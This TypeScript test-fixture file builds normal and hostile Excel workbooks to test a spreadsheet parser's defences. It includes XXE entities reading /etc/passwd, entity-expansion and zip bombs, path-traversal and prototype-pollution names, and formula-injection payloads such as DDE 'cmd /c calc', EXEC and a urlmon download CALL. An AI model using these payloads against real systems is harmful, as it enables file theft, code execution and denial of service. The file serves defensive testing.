import { strToU8, zipSync } from "fflate";
import { handMade, type HandMade, handMadeParts } from "../hand-made";

const RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';

/** A small workbook that has a little of everything: a table, a name, styles, shared formulas, rules, merged cells. */
export function everything(changes: Partial<HandMade> = {}): HandMade {
  return {
    metadata: true,
    sheets: { Cows: CELLS, Notes: '<row r="1"><c r="A1" t="inlineStr"><is><t>Invented herd</t></is></c></row>' },
    workbook:
      '<bookViews><workbookView activeTab="1"/></bookViews><definedNames><definedName name="AsOf">Cows!$B$2</definedName>' +
      '<definedName name="Here" localSheetId="0">Cows!$A$1:$A$3</definedName></definedNames>',
    afterCells:
      '<mergeCells count="1"><mergeCell ref="F1:G2"/></mergeCells><conditionalFormatting sqref="A2:A3"><cfRule ' +
      'type="cellIs" dxfId="0" priority="1" operator="greaterThan"><formula>1</formula></cfRule></conditionalFormatting>' +
      '<dataValidations count="1"><dataValidation type="list" sqref="C2:C3"><formula1>"DD,SU"</formula1></dataValidation>' +
      '</dataValidations><tableParts count="1"><tablePart r:id="rId1" xmlns:r="urn:r"/></tableParts>',
    ...changes,
    parts: { ...tableParts("Findings", ["Cow", "Date", "Lesion"]), ...changes.parts },
  };
}

const CELLS =
  '<row r="1" ht="20" customHeight="1"><c r="A1" t="inlineStr"><is><t>Cow</t></is></c><c r="B1" t="inlineStr"><is><t>Date</t></is></c>' +
  '<c r="C1" t="inlineStr"><is><t>Lesion</t></is></c></row><row r="2"><c r="A2"><v>12</v></c><c r="B2" s="1"><v>46200</v></c>' +
  '<c r="C2" t="inlineStr"><is><t>DD</t></is></c><c r="D2"><f t="shared" ref="D2:D3" si="0">A2*2</f><v>24</v></c>' +
  '<c r="E2" cm="1"><f t="array" ref="E2:E3">A2:A3+1</f><v>13</v></c></row><row r="3"><c r="A3"><v>13</v></c><c r="B3" s="1"><v>46210</v></c>' +
  '<c r="C3" t="inlineStr"><is><t>SU</t></is></c><c r="D3"><f t="shared" si="0"/><v>26</v></c><c r="E3"><v>14</v></c></row>';

/** The parts of a table on the first sheet, its headings in row 1. */
export function tableParts(
  name: string,
  headings: readonly string[],
  reference = "A1:C3",
): NonNullable<HandMade["parts"]> {
  return {
    "xl/tables/table1.xml":
      `${HEAD}<table xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" id="1" name="${name}" displayName="${name}" ` +
      `ref="${reference}"><autoFilter ref="${reference}"/><tableColumns count="${headings.length}">` +
      headings.map((heading, index) => `<tableColumn id="${index + 1}" name="${heading}"/>`).join("") +
      "</tableColumns></table>",
    "xl/worksheets/_rels/sheet1.xml.rels": relationships(["rId1", "table", "../tables/table1.xml"]),
  };
}

export function relationships(...entries: readonly (readonly [id: string, kind: string, target: string])[]): string {
  const list = entries.map(
    ([id, kind, target]) => `<Relationship Id="${id}" Type="${RELATIONS}/${kind}" Target="${target}"/>`,
  );
  return `${HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${list.join("")}</Relationships>`;
}

function cells(content: string, changes: Partial<HandMade> = {}): Uint8Array {
  return handMade(everything({ sheets: { Cows: content, Notes: "" }, ...changes }));
}

/** Rows with one formula each. */
export function formulas(texts: readonly string[]): string {
  const escaped = (text: string): string => text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/"/g, "&quot;");
  return texts.map((text) => `<row><c><f>${escaped(text)}</f><v>5</v></c></row>`).join("");
}

/** A part that unpacks to that many bytes of one letter; packed it is a thousandth of it. */
function inflated(megabytes: number): Uint8Array {
  return new Uint8Array(megabytes << 20).fill("a".charCodeAt(0));
}

const TRICKY_NAMES = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf"];

/** Formulas that reach outside the workbook, or that run something, in programs that let them. */
export const REACHING_OUT = [
  'WEBSERVICE("https://example.invalid/"&A2)',
  'HYPERLINK("https://example.invalid/?"&A2,"click")',
  "cmd|'/c calc'!A0",
  'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://example.invalid","x",0,0)',
  'REGISTER.ID("kernel32","GetTickCount")',
  'EXEC("calc.exe")',
  'IMAGE("https://example.invalid/x.png")',
  'RTD("example.server",,"x")',
  'FILTERXML(WEBSERVICE("https://example.invalid"),"//a")',
  "'[https://example.invalid/other.xlsx]Sheet1'!A1",
  "[1]Sheet1!$A$1",
  "INDIRECT(\"'[other.xlsx]Sheet1'!A1\")",
  'IMPORTDATA("https://example.invalid")',
];

/** Workbooks that a person or a program has made to harm, or that merely look like workbooks. */
export const hostileBooks: Readonly<Record<string, () => Uint8Array>> = {
  "nothing at all": () => new Uint8Array(),
  "an old workbook renamed": () =>
    Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...Array(600).fill(0)]),
  "a workbook under a password": () =>
    Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...Array(504).fill(0), ...Buffer.from("EncryptedPackage", "utf16le")]), // oxfmt-ignore
  "a zip file of pictures": () => zipSync({ "a.png": Uint8Array.from([0x89, 0x50]), "b/c.jpg": strToU8("no picture") }),
  "a text document": () => zipSync({ ...handMadeParts(everything()), "_rels/.rels": strToU8(relationships(["rId1", "officeDocument", "word/document.xml"])), "word/document.xml": strToU8("<document/>") }), // oxfmt-ignore
  "an empty zip file": () => zipSync({}),
  "only pictures on its sheets": () =>
    cells("", { parts: { "xl/media/image1.png": Uint8Array.from([0x89, 0x50, 0x4e, 0x47]) }, afterCells: '<drawing r:id="rId9" xmlns:r="urn:r"/>' }), // oxfmt-ignore
  "a part of 16 MB of one letter": () => zipSync({ ...handMadeParts(everything()), "xl/media/big.bin": inflated(16) }),
  "a sheet of 16 MB of one letter": () =>
    zipSync({ ...handMadeParts(everything()), "xl/worksheets/sheet1.xml": inflated(16) }),
  "a text of 4 MB": () => cells(`<row r="1"><c r="A1" t="inlineStr"><is><t>${"a".repeat(4 << 20)}</t></is></c></row>`),
  "two hundred thousand empty rows": () => cells("<row/>".repeat(200_000)),
  "nine million tags outside the cells": () => cells("", { afterCells: "<a/>".repeat(9_000_000) }),
  "two thousand rows that reach to the last column": () =>
    cells(Array.from({ length: 2000 }, (_, row) => `<row><c r="XFD${row + 1}"><v>1</v></c></row>`).join("")),
  "entities that unfold": () =>
    handMade(everything({ parts: { "xl/sharedStrings.xml": `${unfolding(9)}<sst><si><t>&e9;</t></si></sst>`, "xl/_rels/workbook.xml.rels": allRelated() } })), // oxfmt-ignore
  "an entity that reads a file": () =>
    handMade(everything({ parts: { "xl/sharedStrings.xml": '<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst><si><t>&x;</t></si></sst>', "xl/_rels/workbook.xml.rels": allRelated() } })), // oxfmt-ignore
  "elements ten thousand deep": () => cells("<row>".repeat(10_000) + "</row>".repeat(10_000)),
  "ten thousand deep outside the cells": () =>
    cells("", { afterCells: "<extLst>".repeat(10_000) + "</extLst>".repeat(10_000) }),
  "a sheet that is its own table": () =>
    cells("", { parts: { "xl/worksheets/_rels/sheet1.xml.rels": relationships(["rId1", "table", "sheet1.xml"]) } }),
  "a workbook that is its own sheet": () =>
    handMade(everything({ parts: { "xl/_rels/workbook.xml.rels": relationships(["rId1", "worksheet", "workbook.xml"], ["rId2", "worksheet", "workbook.xml"]) } })), // oxfmt-ignore
  "relationships that point to themselves": () =>
    handMade(everything({ parts: { "xl/_rels/workbook.xml.rels": relationships(["rId1", "worksheet", "_rels/workbook.xml.rels"]) } })), // oxfmt-ignore
  "one sheet a thousand times": () =>
    handMade({ sheets: Object.fromEntries(Array.from({ length: 1000 }, (_, index) => [`S${index}`, ""])), parts: { "xl/_rels/workbook.xml.rels": relationships(...Array.from({ length: 1000 }, (_, index) => [`rId${index + 1}`, "worksheet", "worksheets/sheet1.xml"] as const)) } }), // oxfmt-ignore
  "relationships that leave the file": () =>
    handMade(everything({ parts: { "xl/_rels/workbook.xml.rels": relationships(["rId1", "worksheet", "../../../../etc/passwd"], ["rId2", "worksheet", "https://example.invalid/sheet.xml"]) } })), // oxfmt-ignore
  "a main part called constructor": () =>
    handMade(everything({ parts: { "_rels/.rels": relationships(["rId1", "officeDocument", "constructor"]) } })),
  "a sheet called __proto__ inside the zip": () =>
    handMade(everything({ parts: { "xl/_rels/workbook.xml.rels": relationships(["rId1", "worksheet", "/__proto__"], ["rId2", "worksheet", "/toString"]) } })), // oxfmt-ignore
  "styles called constructor": () =>
    handMade(everything({ parts: { "xl/_rels/workbook.xml.rels": relationships(["rId1", "worksheet", "worksheets/sheet1.xml"], ["rId3", "styles", "/constructor"]) } })), // oxfmt-ignore
  "links to other workbooks": () =>
    handMade(everything({ workbook: '<externalReferences><externalReference r:id="rId8"/></externalReferences>', parts: { "xl/externalLinks/externalLink1.xml": "<externalLink/>", "xl/_rels/workbook.xml.rels": '<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="https://example.invalid/s.xml" TargetMode="External"/></Relationships>' } })), // oxfmt-ignore
  "a table over the whole sheet": () =>
    handMade(everything({ parts: tableParts("Findings", ["Cow"], "A1:XFD1048576") })),
  "a table beyond the sheet": () => handMade(everything({ parts: tableParts("Findings", ["Cow"], "A1:ZZZ9999999") })),
  "a table without columns": () => handMade(everything({ parts: tableParts("Findings", []) })),
  "headings that are the language's own": () =>
    handMade(everything({ parts: tableParts("Findings", ["__proto__", "constructor", "toString"]) })),
  "a cell in row 9,999,999": () => cells('<row r="9999999"><c r="A9999999"><v>1</v></c></row>'),
  "a row numbered 1e9": () => cells('<row r="1000000000" ht="5"><c><v>1</v></c></row>'),
  "a row that has no number": () => cells('<row r="NaN" ht="5"><c><v>1</v></c></row><row r="-7" hidden="1"/>'),
  "a column beyond the last": () => cells('<row r="1"><c r="ZZZ1"><v>1</v></c></row>'),
  "a cell in the last corner": () => cells('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
  "styles below zero and none": () =>
    cells('<row r="1"><c r="A1" s="-1"><v>1</v></c><c r="B1" s="NaN"><v>1</v></c><c r="C1" s="999999999"><v>1</v></c><c r="D1" s="0.5"><v>1</v></c></row>'), // oxfmt-ignore
  "columns from below zero to 1e9": () =>
    handMade(
      everything({ afterCells: '<cols><col min="-5" max="1000000000" width="-3"/><col min="x" max="y"/></cols>' }),
    ),
  "merged cells over the whole sheet": () =>
    cells("", {
      afterCells: '<mergeCells><mergeCell ref="A1:XFD1048576"/><mergeCell ref="A1:ZZZ9999999"/></mergeCells>',
    }),
  "rules over cells that are not there": () =>
    cells("", { afterCells: '<dataValidations><dataValidation type="list" sqref="A0 ZZZ9:A1 A1:A9999999"><formula1>1</formula1></dataValidation></dataValidations>' }), // oxfmt-ignore
  "an array formula over the whole sheet": () =>
    cells('<row r="1"><c r="A1" cm="1"><f t="array" ref="A1:XFD1048576">1</f><v>1</v></c><c r="B1"><v>2</v></c></row>'),
  "ten thousand array formulas": () =>
    cells(Array.from({ length: 10_000 }, (_, row) => `<row><c cm="1"><f t="array" ref="A${row + 1}:B${row + 1}">1</f><v>1</v></c><c><v>2</v></c></row>`).join("")), // oxfmt-ignore
  "a shared formula that has no number": () =>
    cells('<row r="1"><c r="A1"><f t="shared" si="x" ref="A1:A2">B1</f></c><c r="A2"><f t="shared" si="x"/></c><c r="A3"><f t="shared"/></c></row>'), // oxfmt-ignore
  "a formula of 40,000 letters": () => cells(formulas([`"${"a".repeat(40_000)}"`])),
  "a formula 5,000 brackets deep": () => cells(formulas(["(".repeat(5000) + "1" + ")".repeat(5000)])),
  "a formula that ends in the middle": () => cells(formulas(['SUM(A1,"'])),
  "a formula of signs": () => cells(formulas(["=+-@{}[]()!':;,"])),
  "a name that is a formula without end": () =>
    handMade(everything({ workbook: `<definedNames><definedName name="Loop">Loop</definedName><definedName name="Deep">${"(".repeat(3000)}</definedName></definedNames>` })), // oxfmt-ignore
  "a text number that is not in the list": () =>
    cells('<row r="1"><c r="A1" t="s"><v>99</v></c><c r="B1" t="s"><v>-1</v></c></row>'),
  "numbers that are none": () =>
    cells('<row r="1"><c r="A1"><v>NaN</v></c><c r="B1"><v>1e999</v></c><c r="C1"><v>twelve</v></c></row>'),
  "two tables of one name": () =>
    handMade(everything({ parts: { "xl/worksheets/_rels/sheet1.xml.rels": relationships(["rId1", "table", "../tables/table1.xml"], ["rId2", "table", "../tables/table1.xml"]) } })), // oxfmt-ignore
  "a table whose part is missing": () =>
    handMade(everything({ parts: { "xl/worksheets/_rels/sheet1.xml.rels": relationships(["rId1", "table", "../tables/none.xml"]) } })), // oxfmt-ignore
  "a frozen pane at row -1": () =>
    cells("", { afterCells: '<sheetViews><sheetView zoomScale="-9"><pane state="frozen" ySplit="-1" xSplit="NaN"/></sheetView></sheetViews>' }), // oxfmt-ignore
  ...Object.fromEntries(
    TRICKY_NAMES.flatMap((name) => [
      [`a sheet named ${name}`, () => handMade({ sheets: { [`${name}`]: CELLS, Other: "" } })],
      [`a table named ${name}`, () => handMade(everything({ parts: tableParts(name, ["Cow", "Date", "Lesion"]) }))],
      [`a defined name ${name}`, () => handMade(everything({ workbook: `<definedNames><definedName name="${name}">Cows!$A$1</definedName></definedNames>` }))], // oxfmt-ignore
      [`a part named ${name}`, () => handMade(everything({ parts: { [`xl/${name}`]: "<x/>" } }))],
    ]),
  ),
  ...Object.fromEntries(REACHING_OUT.map((text) => [`the formula ${text}`, () => cells(formulas([text]))])),
};

/** Entities of which each holds ten of the one before. */
function unfolding(levels: number): string {
  const entities = Array.from({ length: levels + 1 }, (_, level) =>
    level === 0 ? '<!ENTITY e0 "lol">' : `<!ENTITY e${level} "${`&e${level - 1};`.repeat(10)}">`,
  );
  return `<!DOCTYPE sst [${entities.join("")}]>`;
}

function allRelated(): string {
  return relationships(
    ["rId1", "worksheet", "worksheets/sheet1.xml"],
    ["rId2", "worksheet", "worksheets/sheet2.xml"],
    ["rIdStyles", "styles", "styles.xml"],
    ["rIdStrings", "sharedStrings", "sharedStrings.xml"],
  );
}
